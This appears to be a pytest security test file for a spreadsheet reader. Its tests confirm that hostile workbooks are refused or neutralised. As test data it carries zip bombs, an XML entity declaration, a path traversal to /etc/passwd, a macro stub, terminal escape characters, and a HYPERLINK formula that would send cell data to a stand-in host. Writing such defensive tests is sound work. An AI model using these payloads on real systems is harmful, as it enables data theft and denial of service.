"""Workbooks that nobody vouches for: each is one clear line, and harms nothing."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from nonpaper.adapters.readers.options import ReadLimits
from nonpaper.adapters.readers.worksheet import (
    LIMITS,
    load_worksheet,
    parse_worksheet,
)
from nonpaper.domain.filled_sheet import Column, Fault
from nonpaper.errors import UnreadableFileError
from tests.command import run
from tests.security.test_hostile_files import LAUGHS, Listener
from tests.worksheets import fill, make, read, save

MEMBERS = "code,name\nDAL,Dalmara\n"


def refusal(data: bytes, limits: ReadLimits = LIMITS) -> str:
    with pytest.raises(UnreadableFileError) as caught:
        parse_worksheet("a.xlsx", data, limits=limits)
    said = str(caught.value)
    assert said.startswith("a.xlsx: ")
    assert "\n" not in said
    return said


def repack(
    path: Path, change: Callable[[dict[str, bytes]], None], name: str = "b.xlsx"
) -> Path:
    """Pack a workbook anew with other parts."""
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    change(parts)
    out = path.with_name(name)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for part, content in parts.items():
            package.writestr(part, content)
    return out


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return fill(save(make(), tmp_path / "a.xlsx"), {1: {Column.CATEGORY: "A"}})


def test_a_bomb_in_a_sheet_is_refused(path: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        parts["xl/worksheets/sheet2.xml"] = b"<worksheet>" + b" " * 80_000_000

    assert "unpacks to" in refusal(repack(path, change).read_bytes())


def test_a_bomb_in_a_word_document_is_refused(tmp_path: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        parts["word/document.xml"] = b"<document>" + b" " * 80_000_000

    path = repack(save(make(), tmp_path / "a.docx"), change, "b.docx")
    assert "unpacks to" in refusal(path.read_bytes())


def test_a_workbook_of_very_many_parts_is_refused(path: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        parts.update({f"xl/media/{n}": b"" for n in range(600)})

    assert "parts" in refusal(repack(path, change).read_bytes())


def test_a_workbook_above_the_limit_is_refused_before_it_is_read(
    tmp_path: Path,
) -> None:
    large = tmp_path / "large.xlsx"
    with large.open("wb") as stream:
        stream.truncate(50 * 1024 * 1024)
    with pytest.raises(UnreadableFileError, match="50 MB"):
        load_worksheet(large)


def test_entities_are_never_expanded(path: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        sheet = parts["xl/worksheets/sheet2.xml"].decode()
        declared = f"<!DOCTYPE worksheet [{LAUGHS}]>"
        parts["xl/worksheets/sheet2.xml"] = (
            declared + sheet[sheet.index("<worksheet") :]
        ).encode()

    assert "declares XML entities" in refusal(repack(path, change).read_bytes())


def test_nothing_outside_is_opened_or_fetched(path: Path) -> None:
    asked: list[bytes] = []
    with Listener(asked) as address:

        def change(parts: dict[str, bytes]) -> None:
            relations = parts["xl/_rels/workbook.xml.rels"].decode()
            parts["xl/_rels/workbook.xml.rels"] = relations.replace(
                "</Relationships>",
                f'<Relationship Id="x" Type="t/externalLink" TargetMode="External" '
                f'Target="http://{address}/a"/><Relationship Id="y" '
                'Type="t/sharedStrings" Target="../../../../etc/passwd"/>'
                "</Relationships>",
            ).encode()

        assert len(read(repack(path, change)).entries) > 3
    assert asked == []


def test_macros_are_never_run_and_always_told(path: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        relations = parts["xl/_rels/workbook.xml.rels"].decode()
        parts["xl/_rels/workbook.xml.rels"] = relations.replace(
            "</Relationships>",
            '<Relationship Id="m" Type="t/vbaProject" Target="vbaProject.bin"/>'
            "</Relationships>",
        ).encode()
        parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Shell"

    found = read(repack(path, change, "m.xlsm"))
    assert [one.fault for one in found.findings] == [Fault.HAS_MACROS]
    assert found.entries


@pytest.mark.parametrize(
    "change",
    [
        lambda parts: parts.clear(),
        lambda parts: parts.pop("xl/workbook.xml"),
        lambda parts: parts.pop("xl/_rels/workbook.xml.rels"),
        lambda parts: parts.update({"xl/workbook.xml": b"<workbook/>"}),
        lambda parts: parts.update({"xl/worksheets/sheet2.xml": b"not xml"}),
        lambda parts: parts.update({"xl/worksheets/sheet7.xml": b"<worksheet/>"}),
    ],
    ids=range(6),
)
def test_a_workbook_with_parts_missing_or_broken_is_refused(
    path: Path, change: Callable[[dict[str, bytes]], None]
) -> None:
    refusal(repack(path, change).read_bytes())


def test_a_cut_workbook_is_refused(path: Path) -> None:
    data = path.read_bytes()
    for length in (0, 3, 100, len(data) // 2, len(data) - 10):
        refusal(data[:length])


@pytest.mark.parametrize(
    "cells",
    [
        b'<c r="G7" t="s"><v>99999999999</v></c>',
        b'<c r="G7" t="s"><v>-1</v></c>',
        b'<c r="ZZZZ7"><v>1</v></c><c><v>1</v></c><c r="G7"><v>1e999</v></c>',
        b'<c r="G7" t="n"><v>nan</v></c>',
        b'<c r="G7" t="inlineStr"/>',
        '<c r="G7" t="b"><v>²</v></c>'.encode(),
        b'<c r="G7" t="e"><v>#REF!</v></c>',
    ],
    ids=range(7),
)
def test_odd_cells_are_no_traceback(path: Path, cells: bytes) -> None:
    def change(parts: dict[str, bytes]) -> None:
        sheet = parts["xl/worksheets/sheet2.xml"]
        row = b'<row r="99">' + cells.replace(b"G7", b"G99") + b"</row>"
        parts["xl/worksheets/sheet2.xml"] = sheet.replace(
            b"</sheetData>", row + b"</sheetData>"
        )

    assert read(repack(path, change)).entries


def test_a_foreign_workbook_is_no_worksheet(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.worksheets[0]["A1"] = "nonpaper worksheet"
    stream = io.BytesIO()
    book.save(stream)
    assert "no worksheet of Nonpaper" in refusal(stream.getvalue())


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04mimetypeapplication/vnd.oasis.opendocument.spreadsheet",
        b"%PDF-1.7",
        b"",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    ],
)
def test_other_formats_are_named_as_such(data: bytes) -> None:
    assert "; " in refusal(data)


def test_what_a_delegation_typed_is_no_formula_in_the_table(
    tmp_path: Path, path: Path
) -> None:
    attack = '=HYPERLINK("http://example.org/?"&A1,"open")'
    cells = {Column.CATEGORY: "C", Column.ASSISTANCE: attack, Column.REMARKS: "@SUM(1)"}
    cells[Column.INDICATIVE] = "2027-01-01"
    fill(path, {2: cells})
    members = tmp_path / "members.csv"
    members.write_text(MEMBERS)
    out = tmp_path / "t.xlsx"
    ran = run("worksheet", "--read", path, "--members", members, "--out", out)
    assert ran.code == 0, ran.err
    with zipfile.ZipFile(out) as package:
        sheets = [n for n in package.namelist() if "/worksheets/" in n]
        assert all(b"<f>" not in package.read(name) for name in sheets)
        assert b"<hyperlink" not in b"".join(map(package.read, sheets)).lower()
    book = openpyxl.load_workbook(out)
    found = [c for s in book.worksheets for row in s.rows for c in row]
    shown = [cell for cell in found if cell.value == attack]
    assert shown
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in shown)


def test_no_entry_commands_the_terminal(tmp_path: Path, path: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        sheet = parts["xl/worksheets/sheet2.xml"]
        words = "\u009b31m\u202eX\u2028Y".encode()
        row = b'<row r="99"><c r="K99" t="inlineStr"><is><t>' + words
        row += b"</t></is></c></row></sheetData>"
        parts["xl/worksheets/sheet2.xml"] = sheet.replace(b"</sheetData>", row)

    members = tmp_path / "members.csv"
    members.write_text(MEMBERS)
    ran = run("worksheet", "--read", repack(path, change), "--members", members)
    assert ran.code == 2
    assert all(line.isprintable() for line in (ran.out + ran.err).split("\n"))
